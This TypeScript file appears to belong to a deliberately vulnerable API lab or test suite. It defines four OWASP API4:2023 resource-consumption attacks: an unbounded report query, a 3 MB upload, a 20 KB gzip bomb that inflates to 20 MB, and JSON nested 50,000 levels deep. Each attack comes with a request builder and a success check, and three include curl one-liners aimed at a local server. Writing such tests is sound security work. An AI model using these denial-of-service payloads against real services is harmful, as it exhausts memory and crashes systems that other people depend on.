/** API4:2023 Unrestricted Resource Consumption. */
import { gzipSync } from "node:zlib";
import { type Attack, type AttackRequest, lastOf, lastSays, ORDER_CUPS } from "./attack.ts";

const BIG_BYTES = 3_000_000;
const BOMB_BYTES = 20_000_000;
const NESTING = 50_000;

function upload(body: Uint8Array, headers: Readonly<Record<string, string>> = {}): AttackRequest {
  return { method: "POST", path: "/uploads", as: "alice", headers: { "content-type": "application/octet-stream", ...headers }, body };
}

const report = (days: number): AttackRequest => ({ method: "GET", path: `/reports/sales?days=${days}`, as: "machine" });

export const RESOURCE_CONSUMPTION: readonly Attack[] = [
  {
    id: "endless-report",
    title: "a report over 100,000 days",
    owasp: "API4:2023",
    flaw: "`GET /reports/sales` makes as many rows as `days` says.",
    requests: () => [report(100_000)],
    exploited: (responses) => lastOf(responses).status === 200 && lastOf(responses).body.length > 1_000_000,
    twin: { request: () => report(30), status: 200, says: '"day":29' },
  },
  {
    id: "big-upload",
    title: "an upload of 3 MB where 1 MB is declared",
    owasp: "API4:2023",
    flaw: "`POST /uploads` keeps any body in memory, whatever its size.",
    requests: () => [upload(new Uint8Array(BIG_BYTES))],
    exploited: lastSays(201, `"bytes":${BIG_BYTES}`),
    twin: { request: () => upload(Buffer.from("a small file")), status: 201, says: '"bytes":12' },
    shell: `head -c ${BIG_BYTES} /dev/zero | curl -X POST http://127.0.0.1:3000/uploads -H "Authorization: Bearer $ALICE" \\
  -H 'Content-Type: application/octet-stream' --data-binary @-`,
  },
  {
    id: "gzip-bomb",
    title: "20 KB of gzip that become 20 MB",
    owasp: "API4:2023",
    flaw: "`POST /uploads` inflates gzip to whatever it becomes.",
    requests: () => [upload(gzipSync(new Uint8Array(BOMB_BYTES)), { "content-encoding": "gzip" })],
    exploited: lastSays(201, `"bytes":${BOMB_BYTES}`),
    twin: {
      request: () => upload(gzipSync(Buffer.from("a small file")), { "content-encoding": "gzip" }),
      status: 201,
      says: '"bytes":12',
    },
    shell: `head -c ${BOMB_BYTES} /dev/zero | gzip | curl -X POST http://127.0.0.1:3000/uploads -H "Authorization: Bearer $ALICE" \\
  -H 'Content-Type: application/octet-stream' -H 'Content-Encoding: gzip' --data-binary @-`,
  },
  {
    id: "deep-json",
    title: "an order nested 50,000 deep",
    owasp: "API4:2023",
    flaw: "`POST /orders` walks the body by recursion, until the stack is full.",
    requests: () => [
      {
        method: "POST",
        path: "/orders",
        as: "alice",
        headers: { "content-type": "application/json" },
        body: `{"items":${"[".repeat(NESTING)}${"]".repeat(NESTING)}}`,
      },
    ],
    exploited: lastSays(500, "call stack"),
    twin: ORDER_CUPS,
    shell: `node -p '"{\\"items\\":" + "[".repeat(${NESTING}) + "]".repeat(${NESTING}) + "}"' | \\
  curl -X POST http://127.0.0.1:3000/orders -H "Authorization: Bearer $ALICE" -H 'Content-Type: application/json' --data-binary @-`,
  },
];
